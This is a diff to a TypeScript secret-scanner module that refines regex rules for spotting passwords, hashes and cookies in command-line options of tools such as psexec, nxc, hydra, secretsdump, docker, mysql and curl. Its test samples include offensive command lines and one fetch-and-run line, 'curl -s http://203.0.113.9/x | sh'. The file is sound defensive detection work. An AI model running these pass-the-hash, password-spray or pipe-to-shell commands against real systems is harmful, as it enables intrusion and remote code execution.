@@ -1,135 +1,134 @@
-import { isUnlikeWord, looksLikePassword, mayBeSecret } from '../../checks.ts'
-import { findSecretPart, type SecretMatch, type SecretRule } from '../rule.ts'
+import { isUnlikeWord, looksLikePassword } from '../../checks.ts'
+import type { SecretRule } from '../rule.ts'
+import { mayBeSecretArgument } from './arguments.ts'
+import { type AcceptOption, createOptionRule, createUserPrefix } from './option-rule.ts'
 
-/** This is the source of a pattern. It matches a value on a command line, in quotes or without them. */
-const VALUE = `(?:"(?<double>[^"\\n]{3,300})"|'(?<single>[^'\\n]{3,300})'|(?<secret>[^\\s"'|;<>][^\\s"'|;<>]{2,300}))`
-/** This is the source of a pattern. It matches the end of a tool's name, and looks at the character after it. */
-const NAME_END = '(?:\\.exe|\\.py)?(?=[\\s"\'])'
-/** An option counts if it begins at most this many characters after the tool's name. */
-const MAX_CHARACTERS_BEFORE_OPTION = 300
-/** The longest option with its secret has fewer characters. */
-const MAX_OPTION_CHARACTERS = 500
+/** Matches the text before `-p` if it is an option of a command within the command: `docker exec x mkdir -p y`. */
+const COMMAND_WITH_OTHER_P =
+  /(?<!-\w{1,20}[ =])(?<![\w./-])(?:\/(?:usr\/)?bin\/)?(?:mkdir|cp)\s(?:-\S{1,20}\s|[0-7]{3,4}\s){0,3}$/
+/** Matches a number that may be a port. */
+const PORT = /^\d{1,5}$/
+
+/** Returns true if the value of `-p` is a password. After a first `-p`, a short number is probably a port: `-p 22`. */
+const isPasswordOfP: AcceptOption = (secret, before) =>
+  mayBeSecretArgument(secret) &&
+  !COMMAND_WITH_OTHER_P.test(before) &&
+  !(PORT.test(secret) && /[\s"']-p[^a-z]/.test(before))
+
+/** Matches the text before an option of the subcommand `login`, unless another subcommand follows. */
+const LOGIN = /\blogin\b(?!.*\b(?:run|exec|create|compose|storage)\b)/
+/** Matches the ports and the addresses of `docker run -p`, whose last part is a port: `${PORT}:443`. */
+const PORT_MAPPING = /\$\{|:\d{1,5}(?:-\d{1,5})?(?:\/\w+)?$/
+
 /**
- * Matches the rest of a command: up to a line feed, `|`, `&&`, or `;` at the end of a word, outside quotes. A `;` within
- * a word ends no command, because it is a part of an argument in Windows: `a;b`.
+ * Returns true if the value of `-p` is a password of a tool that takes one when it signs in. In its other subcommands,
+ * `-p` maps ports, or names a file or a project.
  */
-const REST_OF_COMMAND = /(?:[^\n|;&"']|&(?!&)|;(?=[^\s;])|"[^"\n]{0,300}"|'[^'\n]{0,300}'|["'])*/y
-
-/** Returns true if this argument of a command is a secret. */
-export type AcceptArgument = (secret: string) => boolean
-/** Returns true for an argument that `mayBeSecret` allows, unless it looks like an option: `-x`, `/add`. */
-export const mayBeSecretArgument: AcceptArgument = (secret) => mayBeSecret(secret) && !/^[-/]/.test(secret)
-
-/**
- * Creates a rule for a secret in an option of these tools. `tools` holds their names, separated by blanks.
- * `optionPattern` matches what comes right before the secret: an option, or a subcommand with its first arguments.
- * Upper and lower case differ in names and options, as `-p` and `-P` are two options.
- */
-function createOptionRule(
-  tools: string,
-  optionPattern: string,
-  hiddenSamples: readonly string[],
-  keptSamples: readonly string[] = [],
-  accept: AcceptArgument = mayBeSecretArgument,
-): SecretRule {
-  const names = tools.split(' ')
-  const name = new RegExp(`(?<![\\w-])(?:${names.map(RegExp.escape).join('|')})${NAME_END}`, 'g')
-  // A command may run `mkdir -p x` elsewhere, as `docker exec` does.
-  const option = new RegExp(`(?<=[\\s"'])(?<!mkdir )(?:${optionPattern})${VALUE}`, 'dg')
-  return {
-    id: `${names[0]} ${optionPattern}`,
-    kind: 'PASSWORD',
-    keywords: names.map((name) => name.toLowerCase()),
-    find: (text) => findOptions(text, name, option, accept),
-    hiddenSamples,
-    keptSamples,
-  }
-}
-
-/** Finds the secrets of all options in all commands. A part of the text that belongs to two commands is read once. */
-function findOptions(text: string, name: RegExp, option: RegExp, accept: AcceptArgument): SecretMatch[] {
-  const secrets: SecretMatch[] = []
-  let readTo = 0
-  for (const match of text.matchAll(name)) {
-    const nameEnd = match.index + match[0].length
-    const maxOptionStart = nameEnd + MAX_CHARACTERS_BEFORE_OPTION
-    // The character before an option belongs to the pattern of the option, so the part begins one character earlier.
-    const partStart = Math.max(nameEnd, readTo) - 1
-    const part = text.slice(partStart, maxOptionStart + MAX_OPTION_CHARACTERS)
-    REST_OF_COMMAND.lastIndex = 0
-    const command = REST_OF_COMMAND.exec(part)?.[0] ?? ''
-    const found = findOptionsOfCommand(command, maxOptionStart - partStart, option, accept)
-    for (const { start, end } of found) secrets.push({ start: partStart + start, end: partStart + end })
-    readTo = Math.max(readTo, Math.min(maxOptionStart, partStart + command.length), secrets.at(-1)?.end ?? 0)
-  }
-  return secrets
-}
-
-function findOptionsOfCommand(
-  command: string,
-  maxOptionStart: number,
-  option: RegExp,
-  accept: AcceptArgument,
-): SecretMatch[] {
-  const secrets: SecretMatch[] = []
-  option.lastIndex = 0
-  for (let match = option.exec(command); match && match.index <= maxOptionStart; match = option.exec(command)) {
-    const part = findSecretPart(match)
-    if (part && accept(command.slice(part.start, part.end))) secrets.push(part)
-    else option.lastIndex = match.index + 1 // The refused value may be the next option.
-  }
-  return secrets
-}
+const isPasswordOfLogin: AcceptOption = (secret, before) =>
+  LOGIN.test(before)
+    ? isPasswordOfP(secret, before)
+    : looksLikePassword(secret) &&
+      isPasswordOfP(secret, before) &&
+      !PORT_MAPPING.test(secret) &&
+      !/\b(?:compose|storage)\b/.test(before)
 
 /** These rules find secrets in the options of tools. */
 export const OPTION_RULES: SecretRule[] = [
   createOptionRule(
-    'psexec psexec64 PsExec PsExec64 paexec nxc netexec crackmapexec cme evil-winrm hydra medusa ncrack patator smbmap bloodhound-python certipy certipy-ad rusthound mongosh mongo mongodump mongorestore mongoexport rdesktop az winrs pywhisker bloodyAD coercer ldapdomaindump windapsearch enum4linux enum4linux-ng adidnsdump sshpass oc influx',
+    'hydra medusa ncrack rdesktop mongosh mongo mongodump mongorestore mongoexport',
     // `-port` and the like are other options, and not the password `ort`.
     '-p(?:[ =]|(?!(?:ort|ath|rotocol|rofile|roject|olicy|refix|latform|ublic|rivate|arams?)\\b))',
-    ['psexec.exe \\\\10.0.0.5 -u CORP\\admin -p «Tr0ub4dor&3» cmd', `nxc smb 10.0.0.0/24 -u admin -p '«Tr0ub4dor&3»'`],
-    [
-      'psexec.exe was renamed to upd.exe',
-      'hydra -l root -P /usr/share/wordlists/x.txt ssh://10.0.0.5',
-      'az network rule add -port 2222 -path /srv-7/x -protocol Tcp4',
-    ],
+    ['hydra -l root -p «Tr0ub4dor&3» ssh://10.0.0.5', 'rdesktop -u admin -p«winter» 10.0.0.5'],
+    ['hydra -l root -P /usr/share/wordlists/x.txt ssh://10.0.0.5', 'mongo -port 27017 db'],
+    { accept: isPasswordOfP },
   ),
   createOptionRule(
-    'docker podman nerdctl buildah skopeo helm crane oras',
-    '-p[ =]|--password[ =]',
-    ['docker login -u robot -p «Tr0ub4dor&3» r.example.org', 'docker run -p 8080:80 x -p «Tr0ub4dor&3»'],
+    'psexec psexec64 PsExec PsExec64 paexec nxc netexec crackmapexec cme evil-winrm patator smbmap bloodhound-python certipy certipy-ad rusthound winrs pywhisker bloodyAD coercer ldapdomaindump windapsearch enum4linux enum4linux-ng adidnsdump influx',
+    // A word or a number right after `-p` is the rest of another option, such as `-priority`, or a port.
+    '-p(?:[ =:]|(?!(?:[a-z]{2,12}(?:-[a-z]{1,12}){0,3}|\\d{1,5})(?:[=:\\s"\'|;]|$)))',
+    [
+      'psexec.exe \\\\10.0.0.5 -u CORP\\admin -p «Tr0ub4dor&3» cmd',
+      `nxc smb 10.0.0.0/24 -u admin -p '«Tr0ub4dor&3»'`,
+      'nxc smb 10.0.0.5 -u admin -p «12345»',
+      'nxc smb 10.0.0.5 -u a -x whoami; -p «Tr0ub4dor&3»',
+      'winrs -r:h -u:a "-p:«Winter Sun 2026!»" cmd',
+    ],
+    [
+      'psexec.exe was renamed to upd.exe',
+      'psexec -s cmd /c "ping -n 1 x" -priority 4',
+      'certipy find -u a@b -password x',
+      'influx -host x -port 8086 -precision rfc3339',
+      `nxc smb h -x 'tar -pxzf backup.tar' -x 'ssh -p2222 h'`,
+      'psexec found on h; mkdir -p data/x9',
+    ],
+    { accept: isPasswordOfP },
+  ),
+  createOptionRule(
+    'docker podman nerdctl buildah skopeo helm crane oras oc az',
+    '-p[ =]',
+    [
+      'docker login -u robot -p «Tr0ub4dor&3» r.example.org',
+      'docker run -p 8080:80 x -p «Tr0ub4dor&3»',
+      'docker login -u AWS -p «{base64 2000}» r.example.org',
+      'docker login -u AWS -p "«{base64 2000}»" r.example.org',
+      'oc login -u anna -p «winter»',
+      'az sql server create -u anna -p «Tr0ub4dor&3»',
+    ],
     [
       'docker login failed for r.example.org',
       'docker run -p 8080:80 nginx',
       'docker run -p 127.0.0.1:80:80 nginx',
+      'docker run -p 80:80 -p [::1]:8443:443 nginx',
+      'docker run -p 80:80 -p 127.0.0.1::443 nginx',
+      `docker run -p 80:80 -p \${PORT}:443 -p \${PORT1}:\${PORT2} -p $HOST1:53:53/udp nginx`,
       'docker run -p 8080:80 nginx mkdir -p data',
+      'docker run -p 80:80 nginx mkdir -m 700 -p x9data',
+      'docker run -p 80:80 nginx mkdir -m 700 -p data/x9',
+      'docker run -p 8080:80 db psql -p prod',
+      'docker compose -p project-2x up',
+      'docker login r.example.org, docker run -p 8080:80 nginx',
       'docker ps; mkdir -p release-v2x9',
       'docker ps && cp -p release-v2x9 x',
+      'docker exec web cp -p release-v2x9 x',
+      'oc process -f t.yaml -p NAME=web1 -p MEMORY=512Mi',
+      'az storage file download -p "docs/x.md" --dest x',
+      'az storage file download -p "x9.md" --dest x',
+      'az network rule add -port 2222 -path /srv-7/x -protocol Tcp4',
     ],
-    // In `docker run`, `-p` maps ports.
-    (secret) => mayBeSecretArgument(secret) && !/^(?:[\d.]+:)?[\d-]+:[\d-]+(?:\/\w+)?$|^\d+$/.test(secret),
+    { accept: isPasswordOfLogin },
   ),
+  createOptionRule('docker podman nerdctl buildah skopeo helm crane oras', '--password[ =]', [
+    'helm repo add x https://r.example.org --username u --password «Tr0ub4dor&3»',
+  ]),
   createOptionRule(
     'nxc netexec crackmapexec cme evil-winrm secretsdump smbexec wmiexec psexec atexec dcomexec getTGT GetUserSPNs impacket-secretsdump impacket-psexec impacket-wmiexec pth-winexe',
     '-H[ =]?|--?hash(?:es)?[ =]',
     ['nxc smb 10.0.0.5 -u anna -H «{hex 32}»', 'secretsdump.py -hashes «:{hex 32}» anna@10.0.0.5'],
+    [`nxc smb 10.0.0.5 -u anna -x "curl -H 'Accept: text/x1' h"`],
+    { accept: (secret) => /[\da-f]{16}/i.test(secret) },
   ),
   createOptionRule(
     'mysql mysqldump mysqladmin mysqlimport mysqlshow mysqlcheck mariadb mariadb-dump mysqlsh mytop',
-    '-p',
-    ['mysqldump -uroot -p«Tr0ub4dor&3» db'],
-    ['mysql -u root -p prod', 'mysql -P 3306'],
+    '-p(?!(?:ort|rotocol|lugin-dir)[ =])',
+    ['mysqldump -uroot -p«Tr0ub4dor&3» db', 'mysql -h db -e select 1; -p«Tr0ub4dor&3»', `mysql '-p«Tr0ub4 dor»' db`],
+    ['mysql -u root -p prod', 'mysql -P 3306', 'mysql -uroot -e "show databases" -port=3307', 'mysql -port 3307'],
   ),
   createOptionRule(
     'sqlcmd osql isql bcp tsql zip unzip ipmitool mosquitto_pub mosquitto_sub zipcloak',
-    '-P[ =]?',
-    ['sqlcmd -S db -U sa -P «Tr0ub4dor&3»', 'zip -P «Tr0ub4dor&3» out.zip x'],
-    ['zip archive a1.7z of 2.1 GB'],
+    '-P(?:[ =]|(?!(?:ath|assThru|roperty|ort|refix)\\b))',
+    ['sqlcmd -S db -U sa -P «Tr0ub4dor&3»', 'zip -P «Tr0ub4dor&3» out.zip x', 'osql -Usa -P«winter»'],
+    ['zip archive a1.7z of 2.1 GB', 'Compress-Archive -DestinationPath a.zip -Path x9'],
   ),
   createOptionRule(
     'rar unrar 7z 7za 7zz 7zr WinRAR',
     '-h?p',
-    ['rar a -hp«Tr0ub4dor&3» out.rar x', '7z a -p«Tr0ub4dor&3» o.7z x'],
+    [
+      'rar a -hp«Tr0ub4dor&3» out.rar x',
+      '7z a -p«Tr0ub4dor&3» o.7z x',
+      '7z a -x!*.tmp; -p«Tr0ub4dor&3» o.7z',
+      '7z a "-p«Winter Sun 2026!»" o.7z x',
+      '"%ZIP%" u archive.7z *txt -p«blue»',
+    ],
     ['7z l a.7z'],
   ),
   createOptionRule(
@@ -139,12 +138,19 @@ export const OPTION_RULES: SecretRule[] = [
       'ldapsearch -x -D cn=admin -w «Tr0ub4dor&3» -b dc=x',
       'ldapsearch -x -s sub -D cn=admin -w «Tr0ub4dor&3» -b dc=x',
       `ldapsearch -b 'dc=x; dc=y && z' -s sub -w «Tr0ub4dor&3»`,
+      'ldapsearch -x -H ldap://dc -b dc=x; dc=y -w «Tr0ub4dor&3»',
     ],
-    ['ldapsearch -x -s sub -b dc=x'],
+    ['ldapsearch -x -s sub -b dc=x', `ldapsearch -x -b dc=x; curl -s -w '%{http_code}' h`],
     // `-s` is a new password for `ldappasswd`, but a word such as `sub` for `ldapsearch`.
-    isUnlikeWord,
+    { accept: isUnlikeWord },
   ),
-  createOptionRule('plink pscp psftp putty kitty', '-pw[ =]', ['plink.exe -ssh root@10.0.0.5 -pw «Tr0ub4dor&3»']),
+  createOptionRule(
+    'plink pscp psftp putty kitty',
+    '-pw[ =]',
+    ['plink.exe -ssh root@10.0.0.5 -pw «Tr0ub4dor&3»', 'plink.exe root@h echo a; b -pw «Tr0ub4dor&3»'],
+    [],
+    { isFoundInWholeLine: true },
+  ),
   createOptionRule(
     'redis-cli valkey-cli keydb-cli',
     '-a[ =]|--pass[ =]',
@@ -153,38 +159,71 @@ export const OPTION_RULES: SecretRule[] = [
   ),
   createOptionRule(
     'openssl',
-    '-k[ =]|-K[ =]|(?:-pass|-passin|-passout)[ =]pass:|passwd (?:-\\w+ ){0,4}',
-    ['openssl enc -aes-256-cbc -k «Tr0ub4dor&3» -in x', 'openssl rsa -in k -passout pass:«Tr0ub4dor&3»'],
+    '-k[ =]|-K[ =]|passwd (?:-salt \\S{1,40} |-\\w{1,20} ){0,4}',
+    ['openssl enc -aes-256-cbc -k «Tr0ub4dor&3» -in x', 'openssl passwd -1 -salt x9y8 «Tr0ub4dor&3»'],
     ['openssl s_client -connect a:443'],
   ),
   createOptionRule(
+    'openssl',
+    '(?:-pass|-passin|-passout)[ =]',
+    ['openssl rsa -in k -passout pass:«Tr0ub4dor&3»', `openssl enc -passout 'pass:«Tr0ub; 4dor»' -in x`],
+    ['openssl rsa -in k -passin file:/root/k1'],
+    { prefix: () => 'pass:', isFoundInWholeLine: true },
+  ),
+  createOptionRule(
     'curl wget http https',
-    '(?:-u|--user|-U|--proxy-user)[ =]?["\']?[^\\s:"\']{1,64}:',
-    ['curl -u anna:«Tr0ub4dor&3» https://x', `curl --user 'anna:«Tr0ub4dor&3»' https://x`],
-    ['curl -s http://203.0.113.9/x | sh'],
+    '(?:-u|--user|-U|--proxy-user)[ =]?',
+    [
+      'curl -u anna:«Tr0ub4dor&3» https://x',
+      `curl --user 'anna:«Tr0ub4dor&3»' https://x`,
+      `curl -u anna:'«Winter 2026!»' https://x`,
+      `curl -u 'anna:«Winter<2026>!»' https://x`,
+      `curl -u 'anna:«P4;Tr0ub4dor»' https://x`,
+      `curl "-uanna:«Winter Sun 2026!»" https://x`,
+      'curl -A Mozilla/5.0 (X11; Linux x86_64) -u anna:«winter» https://x',
+      'CommandLine: curl -H X-Trace: a; b -u anna:«Tr0ub4dor&3» https://x',
+      'curl -d "{\\"a\\": \\"b; c\\"}" -u anna:«winter» https://x',
+      'curl -d "say \\"hi; there\\"" -u anna:«winter» https://x',
+      `curl -d '{"msg":"it'\\''s; done"}' -u anna:«winter» https://x`,
+      'curl -u anna:«Tr0ub4dor&3»&& id',
+    ],
+    [
+      'curl -s http://203.0.113.9/x | sh',
+      'curl -fsSL h && docker run -u 1000:1000 x',
+      'curl -s h; docker run --user www-data:www-data x',
+      'curl -s h; date -u "+%Y-%m-%dT%H:%M:%SZ"',
+      'curl -u "$USER:$PASS" h',
+      'curl -u anna:$(cat x) h',
+    ],
+    { prefix: createUserPrefix(':'), isFoundInWholeLine: true },
   ),
   createOptionRule(
     'curl',
-    '(?:-b|--cookie)[ =]?["\']?',
-    [`curl -b '«session={32}»' https://x`],
+    '(?:-b|--cookie)[ =]?',
+    [`curl -b '«session={32}»' https://x`, `curl -b '«session={32}; csrf={16}»' https://x`],
     ['curl -b cookies.txt https://x'],
-    // A value without `=` is the name of a file with cookies.
-    (secret) => secret.includes('='),
+    // A value without `=` is the name of a file with cookies. The quotes of a long value may close too late.
+    { accept: (secret) => secret.includes('='), prefix: () => '' },
   ),
   createOptionRule(
     'rpcclient smbclient winexe pth-winexe net smbmap smbget wmic',
-    '(?:-U|--user)[ =]?["\']?[^\\s%"\']{1,64}%',
-    ['rpcclient -U admin%«Tr0ub4dor&3» 10.0.0.5'],
+    '(?:-U|--user)[ =]?',
+    ['rpcclient -U admin%«Tr0ub4dor&3» 10.0.0.5', `rpcclient -U 'admin%«Tr0ub|4dor»' 10.0.0.5`],
     ['smbclient -U anna //fs/c$'],
+    { prefix: createUserPrefix('%'), isFoundInWholeLine: true },
   ),
   createOptionRule(
-    'xfreerdp xfreerdp3 wfreerdp cmdkey schtasks mstsc winscp at rubeus Rubeus',
+    'xfreerdp xfreerdp3 wfreerdp cmdkey schtasks mstsc winscp rubeus Rubeus',
     '/(?:p|rp|pass|password)[: =]',
     [
       'xfreerdp /v:10.0.0.5 /u:anna /p:«Tr0ub4dor&3»',
+      'xfreerdp /v:10.0.0.5 /u:anna "/p:«Winter Sun 2026!»"',
       'cmdkey /generic:x /user:a /pass:«Tr0ub4dor&3»',
       'schtasks /create /ru a /rp «Tr0ub4dor&3» /tr c.exe',
+      'schtasks /create /tr c.exe a; b /ru a /rp «Tr0ub4dor&3»',
     ],
+    ['look at 10:42: POST /password HTTP/1.1', '10.0.0.9 at 10:42 "GET /p HTTP/1.1" 200'],
+    { isFoundInWholeLine: true },
   ),
   createOptionRule(
     'snmpwalk snmpget snmpset snmpbulkwalk snmptrap snmpcheck onesixtyone',
@@ -195,13 +234,19 @@ export const OPTION_RULES: SecretRule[] = [
       'snmpwalk -v3 -A «Abcd-1234» -X «Tr0ub4dor&3» 10.0.0.1',
     ],
     ['snmpwalk -v2c -c public 10.0.0.1'],
-    isUnlikeWord,
+    { accept: isUnlikeWord },
   ),
-  createOptionRule('lftp', '-u[ =]?["\']?[^\\s,"\']{1,64},', ['lftp -u anna,«Tr0ub4dor&3» sftp://h']),
-  createOptionRule('kerbrute', 'passwordspray[^\\n]{0,120}?\\s(?:\\S+\\.txt)\\s', [
+  createOptionRule(
+    'lftp',
+    '-u[ =]?',
+    ['lftp -u anna,«Tr0ub4dor&3» sftp://h', `lftp -u 'anna,«Tr0ub;4dor»' sftp://h`],
+    [],
+    { prefix: createUserPrefix(','), isFoundInWholeLine: true },
+  ),
+  createOptionRule('kerbrute', 'passwordspray[^\\n]{0,120}?\\s(?:\\S{1,200}\\.txt)\\s', [
     'kerbrute passwordspray -d corp.local users.txt «Tr0ub4dor&3»',
   ]),
-  createOptionRule('htpasswd', '(?:-\\w*b\\w*)\\s\\S{1,100}\\s(?:\\S{1,64}\\s(?=\\S))?', [
+  createOptionRule('htpasswd', '(?:-\\w{0,8}b\\w{0,8})\\s\\S{1,100}\\s(?:\\S{1,64}\\s(?=\\S))?', [
     'htpasswd -b /etc/x anna «Tr0ub4dor&3»',
   ]),
   createOptionRule('rabbitmqctl', '(?:add_user|change_password|authenticate_user)\\s\\S{1,64}\\s', [
@@ -209,10 +254,10 @@ export const OPTION_RULES: SecretRule[] = [
   ]),
   createOptionRule(
     'vault',
-    'login\\s(?:-\\S+\\s){0,3}(?:token=)?',
+    'login\\s(?:-\\S{1,100}\\s){0,3}(?:token=)?',
     ['vault login «s.{24}»'],
     ['vault login failed'],
-    looksLikePassword,
+    { accept: looksLikePassword },
   ),
   createOptionRule('aws', 'configure\\sset\\s\\S{0,40}(?:secret|token)\\S{0,40}\\s', [
     'aws configure set aws_secret_access_key «{base64 40}»',
